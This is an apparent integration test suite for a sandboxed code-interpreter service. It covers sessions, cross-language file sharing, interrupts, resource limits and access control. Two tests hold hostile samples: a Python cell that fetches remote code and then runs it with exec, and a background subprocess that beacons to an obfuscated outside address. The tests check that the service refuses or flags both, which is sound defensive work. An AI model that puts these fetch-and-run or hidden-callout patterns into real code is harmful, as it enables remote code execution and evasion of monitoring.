using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using InterpreterGuard.Containment.Tests.Hosting;

namespace InterpreterGuard.Containment.Tests;

/// <summary>Sessions through the real host: state lives, files come and go, and what is done between executions is seen like everything else.</summary>
[Collection(HostCollection.Name)]
[Trait("needs", "docker")]
public sealed class SessionTests(ContainmentHost containment)
{
    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_data_frame_a_plot_and_a_report_out_of_an_uploaded_table()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
        using var put = await session.PutAsync("data/sales.csv", Encoding.UTF8.GetBytes("region,month,amount\nnorth,1,10\nnorth,2,30\nsouth,1,20\nsouth,2,5\n"));
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);

        await session.CompletesAsync("import pandas as pd\nframe = pd.read_csv('data/sales.csv')\ntotals = frame.groupby('region')['amount'].sum()");
        var shown = await session.CompletesAsync("totals.to_frame()");
        var plotted = await session.CompletesAsync("import matplotlib.pyplot as plt\ntotals.plot(kind='bar')\nplt.title('Sales')\nNone");
        var reported = await session.CompletesAsync("totals.to_frame().to_excel('report.xlsx')\nfrom openpyxl import load_workbook\nprint(load_workbook('report.xlsx').active.max_row)");

        Assert.Contains("<table", MainOf(shown).GetProperty("data").GetProperty("text/html").GetString(), StringComparison.Ordinal);
        var image = Assert.Single(plotted.Body.GetProperty("results").EnumerateArray(), result => result.GetProperty("data").TryGetProperty("image/png", out _));
        Assert.Equal([0x89, (byte)'P', (byte)'N', (byte)'G'], Convert.FromBase64String(image.GetProperty("data").GetProperty("image/png").GetString()!)[..4]);
        Assert.Equal("3\n", reported.Stdout);
        var left = Assert.Single(reported.Body.GetProperty("files").EnumerateArray());
        Assert.Equal("report.xlsx", left.GetProperty("path").GetString());
        using var got = await session.GetAsync("report.xlsx");
        Assert.Equal(left.GetProperty("sha256").GetString(), Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(await got.Content.ReadAsByteArrayAsync(Stop))));
        Assert.All(new[] { shown, plotted, reported }, answer => Assert.Null(answer.IncidentId));
    }

    [Fact]
    public async Task Five_cells_of_csharp_build_on_each_other()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "csharp");

        await session.CompletesAsync("record Sale(string Region, decimal Amount);\nvar sales = new List<Sale> { new(\"north\", 10), new(\"south\", 20), new(\"north\", 5) };");
        await session.CompletesAsync("var byRegion = sales.GroupBy(sale => sale.Region).ToDictionary(group => group.Key, group => group.Sum(sale => sale.Amount));");
        await session.CompletesAsync("decimal Share(string region) => byRegion[region] / byRegion.Values.Sum();");
        await session.CompletesAsync("sales.Add(new(\"west\", 7));\nbyRegion[\"west\"] = 7;");
        var last = await session.CompletesAsync("Console.WriteLine($\"{Share(\"south\"):P0} of {sales.Count}\");\nbyRegion.OrderByDescending(pair => pair.Value).Select(pair => pair.Key)");

        Assert.Equal("48", new string([.. last.Stdout.TakeWhile(char.IsAsciiDigit)]));
        Assert.Contains("south", MainOf(last).GetProperty("data").GetProperty("text/plain").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_one_cell_fetches_and_the_next_runs_is_refused_and_its_honest_neighbour_is_not()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
        await session.CompletesAsync("from urllib.request import urlopen\nload = lambda: urlopen('http://192.0.2.7/x').read()\ndouble = lambda n: 2 * n");
        await session.CompletesAsync("print(double(3))");

        var refused = await session.RunAsync("exec(load())", stop: Stop);

        Assert.Equal("refused", refused.Status);
        Assert.Contains(refused.Findings, finding => finding.GetProperty("rule").GetString() == "IG1057");
    }

    [Fact]
    public async Task Languages_share_the_files_and_keep_their_state_apart()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
        await session.CompletesAsync("import json\nname = 'python'\njson.dump({'b': 2, 'a': 1}, open('in.json', 'w'))");

        var sorted = await session.CompletesAsync("const given = JSON.parse(require('fs').readFileSync('in.json', 'utf8'));\nObject.keys(given).sort().join()", "javascript");
        var shell = await session.CompletesAsync("name=shell; wc -c <in.json; cd /tmp", "shell");
        var again = await session.CompletesAsync("pwd; echo $name", "shell");
        var python = await session.CompletesAsync("name");

        Assert.Equal("'a,b'", MainOf(sorted).GetProperty("data").GetProperty("text/plain").GetString());
        Assert.Equal("16\n", shell.Stdout);
        Assert.Equal("/tmp\nshell\n", again.Stdout);
        Assert.Equal("'python'", MainOf(python).GetProperty("data").GetProperty("text/plain").GetString());
        Assert.Equal(3, (await session.StandsAsync()).GetProperty("contexts").GetArrayLength());
    }

    [Fact]
    public async Task An_interrupt_from_outside_and_a_caller_that_goes_away_leave_the_state()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
        await session.CompletesAsync("x = 41");
        var looping = session.RunAsync("while True: pass", stop: Stop);
        await Task.Delay(700, Stop);
        using var interrupted = await session.PostAsync("interrupt");
        Assert.Equal("cancelled", (await looping).Status);

        using (var gone = new CancellationTokenSource(TimeSpan.FromMilliseconds(700)))
            await Assert.ThrowsAnyAsync<OperationCanceledException>(() => session.RunAsync("import time\ntime.sleep(60)", stop: gone.Token));

        Assert.Equal("42\n", (await session.CompletesAsync("print(x + 1)")).Stdout);
    }

    [Theory]
    [InlineData("python", "x = 41", "import time; time.sleep(25)", "print(x + 1)")]
    [InlineData("javascript", "let x = 41", "for (;;);", "console.log(x + 1)")]
    [InlineData("csharp", "var x = 41;", "while (true);", "Console.WriteLine(x + 1);")]
    [InlineData("shell", "x=41", "sleep 25", "echo $((x + 1))")]
    public async Task An_interrupt_right_behind_a_cell_is_not_taken_for_one_between_two(string language, string first, string endless, string last)
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, language);
        await session.CompletesAsync(first);
        for (var round = 0; round < 3; round++)
        {
            var running = session.RunAsync(endless, stop: Stop);
            var interrupted = 0;
            while (interrupted == 0)
            {
                using var answer = await session.PostAsync("interrupt");
                interrupted = (await answer.Content.ReadFromJsonAsync<JsonElement>(Stop)).GetProperty("interrupted").GetInt32();
            }

            Assert.Equal("cancelled", (await running).Status);
        }

        Assert.Equal("42\n", (await session.CompletesAsync(last)).Stdout);
    }

    [Fact]
    public async Task What_a_cell_left_running_is_seen_and_is_an_incident_of_that_cell()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
        var planted = await session.CompletesAsync("""
            import subprocess, sys
            subprocess.Popen([sys.executable, '-c', 'import socket, time; time.sleep(1.5); socket.socket().connect_ex((chr(49) + "92.0.2.7", 443))'])
            None
            """);
        var honest = await session.CompletesAsync("sum(range(10))");
        Assert.Null(planted.IncidentId);

        var incident = await EventuallyAsync(() => containment.Host.IncidentAsync(honest.Id), () => containment.Host.IncidentAsync(planted.Id));

        Assert.True(incident is { }, $"no incident of what {planted.Id} and {honest.Id} left running");
        Assert.Contains("192.0.2.7", incident.Value.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_restart_is_a_fresh_interpreter_over_the_same_files()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
        await session.CompletesAsync("x = 1\nopen('kept.txt', 'w').write('kept')\nNone");

        using var restarted = await session.PostAsync("contexts/python/restart");

        Assert.Equal(HttpStatusCode.OK, restarted.StatusCode);
        Assert.Equal("failed", (await session.RunAsync("x", stop: Stop)).Status);
        Assert.Equal("kept\n", (await session.CompletesAsync("print(open('kept.txt').read())")).Stdout);
    }

    [Fact]
    public async Task An_interpreter_that_runs_out_of_memory_says_so_and_the_next_execution_has_a_new_one()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python", new { limits = new { memory = "128MiB" } });

        var died = await session.RunAsync("x = bytearray(10 ** 9)\nfor i in range(0, len(x), 4096): x[i] = 1", stop: Stop);
        var next = await session.CompletesAsync("print('here again')");

        Assert.Equal("memory_exceeded", died.Status);
        Assert.Contains(died.Body.GetProperty("hints").EnumerateArray(), hint => hint.GetProperty("about").GetString() == "state");
        Assert.False(next.Body.TryGetProperty("hints", out _), next.ToString());
        Assert.Equal("here again\n", next.Stdout);
    }

    [Fact]
    public async Task A_work_folder_that_an_earlier_cell_filled_is_not_what_a_later_one_did()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "python", new { limits = new { work_disk = "4MiB" } });

        var filling = await session.RunAsync("open('big', 'wb').write(b'x' * (8 << 20))", stop: Stop);
        var wrong = await session.RunAsync("1 / 0", stop: Stop);
        var writing = await session.RunAsync("open('more', 'wb', buffering=0).write(b'x' * 100_000)\nopen('more', 'ab', buffering=0).write(b'x' * 100_000)", stop: Stop);

        Assert.Equal("disk_exceeded", filling.Status);
        Assert.Equal("failed", wrong.Status);
        Assert.False(wrong.Body.TryGetProperty("hints", out _), wrong.ToString());
        Assert.Null(wrong.IncidentId);
        Assert.Equal("failed", writing.Status);
        Assert.Contains(writing.Body.GetProperty("hints").EnumerateArray(), hint => hint.GetProperty("about").GetString() == "disk");
    }

    [Fact]
    public async Task Nobody_else_sees_or_uses_a_session()
    {
        await using var session = await SessionClient.OpenAsync(containment.Host, "shell");
        var host = containment.Host;

        using var run = await host.Reviewer.PostAsJsonAsync($"/v1/sessions/{session.Id}/executions", new { code = "true" }, Stop);
        using var files = await host.Reviewer.GetAsync(new Uri($"/v1/sessions/{session.Id}/files", UriKind.Relative), Stop);
        using var seen = await host.Reviewer.GetAsync(new Uri($"/v1/sessions/{session.Id}", UriKind.Relative), Stop);

        Assert.Equal((HttpStatusCode.NotFound, HttpStatusCode.NotFound, HttpStatusCode.OK), (run.StatusCode, files.StatusCode, seen.StatusCode));
    }

    [Fact]
    public async Task A_session_that_was_deleted_leaves_no_container_and_no_volume_and_says_that_it_ended()
    {
        var host = containment.Host;
        var session = await SessionClient.OpenAsync(host, "shell");
        await session.CompletesAsync("echo x >f");
        await session.DisposeAsync();

        using var response = await host.Agent.PostAsJsonAsync($"/v1/sessions/{session.Id}/executions", new { code = "true" }, Stop);
        var answer = await response.Content.ReadFromJsonAsync<JsonElement>(Stop);

        Assert.Equal(HttpStatusCode.Conflict, response.StatusCode);
        Assert.Contains("Its owner ended it.", answer.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal("ended", (await session.StandsAsync()).GetProperty("status").GetString());
    }

    private static JsonElement MainOf(Answer answer) => Assert.Single(answer.Body.GetProperty("results").EnumerateArray(), result => result.GetProperty("is_main").GetBoolean());

    private static async Task<JsonElement?> EventuallyAsync(params Func<Task<JsonElement?>>[] looks)
    {
        for (var i = 0; i < 60; i++)
        {
            foreach (var look in looks)
            {
                if (await look() is { } found)
                    return found;
            }

            await Task.Delay(200, Stop);
        }

        return null;
    }
}
